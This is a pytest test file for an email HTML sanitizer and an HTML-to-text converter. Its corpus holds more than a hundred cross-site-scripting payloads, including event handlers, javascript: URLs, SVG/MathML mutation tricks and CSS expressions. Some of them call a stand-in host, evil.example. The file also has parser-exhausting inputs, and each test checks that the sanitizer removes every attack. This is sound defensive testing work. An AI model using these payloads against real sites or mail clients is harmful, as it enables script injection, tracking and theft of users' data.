"""HTML made safe: a corpus of attacks, each judged by parsing the result again. HTML made plain: a table."""

import re
from html import unescape
from pathlib import Path

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from dragoman.channels.email.parsing.parse import parse
from dragoman.core.text.html import sanitize
from dragoman.core.text.plaintext import to_text

DATA = Path(__file__).resolve().parents[2].parent / "shared" / "data"

# Written down here again, not imported: a slip in the code must not loosen its own judge.
TAGS = (
    "a abbr address b bdi bdo big blockquote br caption center cite code col colgroup dd del dfn div dl dt em"
    " figcaption figure font h1 h2 h3 h4 h5 h6 hr i img ins kbd li mark ol p pre q s samp section small span strike"
    " strong sub sup table tbody td tfoot th thead time tr tt u ul var wbr"
)
ATTRIBUTES = (
    "align alt bgcolor border cellpadding cellspacing color colspan dir face height href lang nowrap rel rowspan size"
    " span src start style target title type valign width"
)
ALLOWED_TAGS, ALLOWED_ATTRIBUTES = set(TAGS.split()), set(ATTRIBUTES.split())
BAD_STYLE = re.compile(
    r"url|expression|behavior|binding|position|display|visibility|opacity|content|\\|/\*|javascript|var\(|@",
    re.I,
)

ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script >",
    "<script>alert(1)",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror\n=\nalert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img/src=x/onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src=data:image/png;base64,iVBORw0KGgo=>",
    "<img srcset='http://evil.example/a 1x, javascript:alert(1) 2x'>",
    "<img src=//evil.example/x.png>",
    "<img src=file:///etc/passwd>",
    "<img lowsrc=javascript:alert(1) dynsrc=javascript:alert(1)>",
    "<picture><source srcset=http://evil.example/x><img src=x></picture>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x><script>alert(1)</script></svg>#x'></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></foreignObject></svg>",
    "<svg><desc><![CDATA[</desc><script>alert(1)</script>]]></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math href='javascript:alert(1)'>x</math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<noscript><style></noscript><img src=x onerror=alert(1)></style>",
    "<template><img src=x onerror=alert(1)></template>",
    "<template><template><script>alert(1)</script></template></template>",
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'></textarea>",
    "<title><a title='</title><img src=x onerror=alert(1)>'></title>",
    "<xmp><a title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<noembed><a title='</noembed><script>alert(1)</script>'></noembed>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<applet code=Evil></applet>",
    "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
    "<audio autoplay onplay=alert(1) src=x>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<body onload=alert(1) background=javascript:alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)><option>x</select>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form action=http://evil.example><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<style>@import 'http://evil.example/x.css'; body{background:url(http://evil.example)}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)//'>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--a--!><img src=x onerror=alert(1)>-->",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='java\x00script:alert(1)'>x</a>",
    "<a href='&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='java&Tab;script&NewLine;:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='blob:http://evil.example/x'>x</a>",
    "<a href='//evil.example/x'>x</a>",
    "<a href='cid:x' ping='http://evil.example' download>x</a>",
    "<a href='http://ok.example' target=_self rel=opener onclick=alert(1)>x</a>",
    "<div style='background:url(javascript:alert(1))'>x</div>",
    "<div style='background-image:url(http://evil.example/x.png)'>x</div>",
    "<div style='color:url(http://evil.example)'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='width:expre/**/ssion(alert(1))'>x</div>",
    "<div style='wid\\74h:\\65xpression(alert(1))'>x</div>",
    "<div style='-moz-binding:url(http://evil.example/x.xml#a);behavior:url(x.htc)'>x</div>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    "<div style='display:none;visibility:hidden;opacity:0;font-size:0px;text-indent:-999px'>x</div>",
    "<div style='list-style:url(http://evil.example);cursor:url(http://evil.example),auto'>x</div>",
    "<div style='font-family:\"x;background:url(http://evil.example)\"'>x</div>",
    '<div style="color:red;}</style><script>alert(1)</script>">x</div>',
    "<table background=javascript:alert(1)><td background=http://evil.example/x>x</table>",
    "<table><td><svg><script>alert(1)</script></table>",
    "<p id=location name=cookie class=modal>x</p>",
    "<a id=x><a id=x name=y href=cid:evil>x</a>",
    "<img usemap=#m><map name=m><area href=javascript:alert(1)></map>",
    "<div contenteditable onblur=alert(1) tabindex=1 autofocus accesskey=x>x</div>",
    "<x onclick=alert(1)>x</x>",
    "<a/onmouseover=alert(1)>x",
    "<b/\x0conclick=alert(1)>x</b>",
    "<p title='\"><img src=x onerror=alert(1)>'>x</p>",
    '<p title="`><img src=x onerror=alert(1)>">x</p>',
    "<img alt='`onerror=alert(1)' src=x>",
    "\x00<\x00s\x00c\x00r\x00i\x00p\x00t\x00>alert(1)</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\ud800<img src=x onerror=alert(1)>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<portal src=javascript:alert(1)>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<slot onslotchange=alert(1)></slot>",
    "<a href=http://x.example<script>alert(1)</script>>y</a>",
]


def judged(html: str) -> None:
    """Fail unless every element, attribute and URL of `html` is on the lists above."""
    if not html.strip():
        return
    # The head start keeps lxml from reading a lone text as something else.
    for element in lxml.html.fragment_fromstring(f"<div>{html}</div>").iter():
        assert isinstance(element.tag, str), "comments and instructions are gone"
        assert element.tag in ALLOWED_TAGS
        for name, value in element.attrib.items():
            judge_attribute(element.tag, str(name), str(value))
        if element.tag == "a":
            assert element.get("target") == "_blank"
            assert {"noopener", "noreferrer", "nofollow"} <= set(str(element.get("rel")).split())


def judge_attribute(tag: str, name: str, value: str) -> None:
    assert name in ALLOWED_ATTRIBUTES, name
    plain = re.sub(r"[\x00-\x20]", "", unescape(value)).lower()
    if name == "href":
        assert re.match(r"(https?|mailto|tel):", plain)
    elif name == "src":
        assert tag == "img"
        assert re.match(r"https?://|cid:", plain)
    elif name == "style":
        assert not BAD_STYLE.search(value), value


@pytest.mark.parametrize("attack", ATTACKS)
def test_nothing_of_an_attack_can_run(attack: str) -> None:
    for page in (attack, f"<p>before{attack}after", f"<table><tr><td>{attack}", f"<b>{attack}</b>{attack}"):
        clean = sanitize(page)
        judged(clean)
        judged(sanitize(clean))


def test_the_corpus_is_as_large_as_it_claims() -> None:
    assert len(set(ATTACKS)) == len(ATTACKS) >= 100


def test_the_judge_would_notice() -> None:
    for bad in (
        "<script>x</script>",
        "<a href='javascript:x' target=_blank>y</a>",
        "<img src=data:x>",
        "<p onclick=x>",
    ):
        with pytest.raises(AssertionError):
            judged(bad)


@pytest.mark.parametrize(
    ("page", "kept"),
    [
        ("<p>a <b>b</b></p>", "<p>a <b>b</b></p>"),
        ('<img src="cid:a@b" alt="x">', '<img src="cid:a@b" alt="x">'),
        ('<img src="https://x.example/a.png">', '<img src="https://x.example/a.png">'),
        (
            '<a href="https://x.example/?a=1&amp;b=2">x</a>',
            '<a href="https://x.example/?a=1&amp;b=2" target="_blank" rel="noopener noreferrer nofollow">x</a>',
        ),
        ('<td colspan="2">x</td>', "x"),
        (
            '<table border="1"><tr><td colspan="2" bgcolor="#fff">x</td></tr></table>',
            '<table border="1"><tbody><tr><td colspan="2" bgcolor="#fff">x</td></tr></tbody></table>',
        ),
        ('<p style="color:red; display:none">x</p>', '<p style="color:red">x</p>'),
        ('<p style="font-size:12px;font-size:0">x</p>', '<p style="font-size:12px">x</p>'),
        ("<p>one<p>two", "<p>one</p><p>two</p>"),
        ("1 < 2 & 3", "1 &lt; 2 &amp; 3"),
        ("<!-- gone --><![if !mso]>kept<![endif]>", "kept"),
        ("<title>gone</title><style>gone</style>kept", "kept"),
        ("<form>kept <button>too</button></form>", "kept too"),
        ("", ""),
    ],
)
def test_harmless_markup_is_kept(page: str, kept: str) -> None:
    assert sanitize(page) == kept


@pytest.mark.parametrize(
    ("page", "text"),
    [
        ("plain", "plain"),
        ("<p>one</p><p>two</p>", "one\n\ntwo"),
        ("<p>one<p>two", "one\n\ntwo"),
        ("<div>one</div><div>two</div>", "one\ntwo"),
        ("<div>one<div>two</div></div>three", "one\ntwo\nthree"),
        ("one<br>two<br><br>three</br>four", "one\ntwo\n\nthree\nfour"),
        ("  a \n  b\t<b> c </b> d", "a b c d"),
        ("a<b>b</b>c", "abc"),
        ("a&nbsp;&nbsp;b&#160;c\xa0d", "a b c d"),
        ("&lt;p&gt; &amp; &euro; &#8364; &#x20AC; &hellip;", "<p> & € € € …"),
        ("&#0;&#xD800;&#99999999999999999999;&bogus;", "\ufffd\ufffd\ufffd&bogus;"),
        ("<ul><li>a</li><li>b<ul><li>c</ul></ul>after", "- a\n- b\n  - c\n\nafter"),
        ("<ol><li>a<li>b</ol>", "1. a\n2. b"),
        ("<ul><li><p>a</p></li><li><div>b</div></li></ul>", "- a\n- b"),
        (
            "before<blockquote>a<br>b<blockquote>c</blockquote></blockquote>after",
            "before\n\n> a\n> b\n>\n> > c\n\nafter",
        ),
        ("<pre>a\n  b</pre>", "a\n  b"),
        ("<table><tr><td>a</td><td>b</td></tr><tr><td>c</table>", "a b\nc"),
        ("a<hr>b", "a\n---\nb"),
        ('<a href="https://x.example/a">here</a>!', "here <https://x.example/a>!"),
        ('<a href="https://www.x.example/">x.example</a>', "x.example"),
        ('<a href="mailto:a@x.example">a@x.example</a>', "a@x.example"),
        ('<a href="mailto:a@x.example">Bob</a>', "Bob <a@x.example>"),
        ('<a href="javascript:x">here</a> <a href="#top">top</a>', "here top"),
        ('<a href="https://x.example"><img src="a.png"></a>', ""),
        ('<img src="a.png" alt="Our logo">', "Our logo"),
        ('<div style="display:none">preheader</div>words', "words"),
        ('<div style="color:red;DISPLAY : none"><p>a<div>b</div></p></div>words', "words"),
        ("<span hidden>gone</span>words", "words"),
        ('<div style="max-height:0;overflow:hidden">gone</div>words', "words"),
        ("<style>p{}</style><script>x</script><title>t</title>words", "words"),
        ("<!-- gone -->a<!--[if mso]>gone<![endif]-->b<![if !mso]>c<![endif]>", "abc"),
        ("a<!-- never closed", "a"),
        ("a<b title='x>y'>c", "ac"),
        ("a < b and 3<4", "a < b and 3<4"),
        ("soft\xadhy\u200bphen &zwnj;&nbsp;&zwnj;&nbsp;", "softhyphen"),
        ("\U0001f468\u200d\U0001f469", "\U0001f468\u200d\U0001f469"),
        ("nul\x00 and \ud800", "nul and \ufffd"),
    ],
)
def test_html_is_read_as_somebody_would_type_it(page: str, text: str) -> None:
    assert to_text(page) == text


MEGABYTE = 1_000_000
HOSTILE = {
    "nested deep": "<div>" * 100_000 + "bottom" + "</div>" * 80_000,
    "never closed": "<b><i><u><font>" * 50_000,
    "formatting to reopen": "".join(f"<font size={n}>" for n in range(20_000)) + "<p>x" * 50_000,
    "misnested tables": "<table><td></div>x" * 40_000,
    "quotes in lists": "<ul><blockquote>x" * 40_000,
    "one open quote": '<a href="' * (MEGABYTE // 9),
    "only brackets": "<" * MEGABYTE,
    "open comments": "<!--" * (MEGABYTE // 4),
    "open titles": "<title>" * (MEGABYTE // 7),
    "many attributes": "<a " + "x=1 " * (MEGABYTE // 4) + ">",
    "long style": '<p style="' + "a:b;" * (MEGABYTE // 4) + '">',
    "huge references": "&#" + "9" * MEGABYTE,
    "nul bytes": "<\x00b>" * (MEGABYTE // 4),
}


@pytest.mark.parametrize("page", HOSTILE.values(), ids=HOSTILE.keys())
def test_hostile_pages_are_survived_and_do_not_grow(page: str) -> None:
    text, clean = to_text(page), sanitize(page)
    assert len(text) <= 3 * len(page)
    assert len(clean) <= 10 * len(page)


def test_the_words_at_the_bottom_are_kept() -> None:
    assert to_text(HOSTILE["nested deep"]) == "bottom"
    assert "bottom" in sanitize(HOSTILE["nested deep"])


PIECES = st.sampled_from(
    [*ATTACKS, "<p>", "</p>", "<!--", "-->", "'", '"', ">", "<", "&#", ";", "<td>", "\x00", "\ud800", "x"]
)


@settings(max_examples=200, deadline=None)
@given(st.lists(st.one_of(PIECES, st.text(max_size=8)), max_size=12).map("".join))
def test_no_mixture_gets_through(page: str) -> None:
    judged(sanitize(page))
    assert not re.search("[\x00\ud800-\udfff]", to_text(page))


def test_collected_pages_come_out_clean_and_readable() -> None:
    found = sorted((DATA / "email_spam_ham").rglob("*.eml")) + sorted((DATA / "email_fixtures").rglob("*.eml"))
    if not found:
        pytest.skip("the shared mail collections are absent")
    pages = [parsed.html for parsed in (parse(path.read_bytes()) for path in found) if parsed.html]
    for page in pages:
        judged(sanitize(page))
        assert not re.search(r"</?(?:div|p|td|span)\b[^<>]*>", to_text(page), re.IGNORECASE)
    assert pages
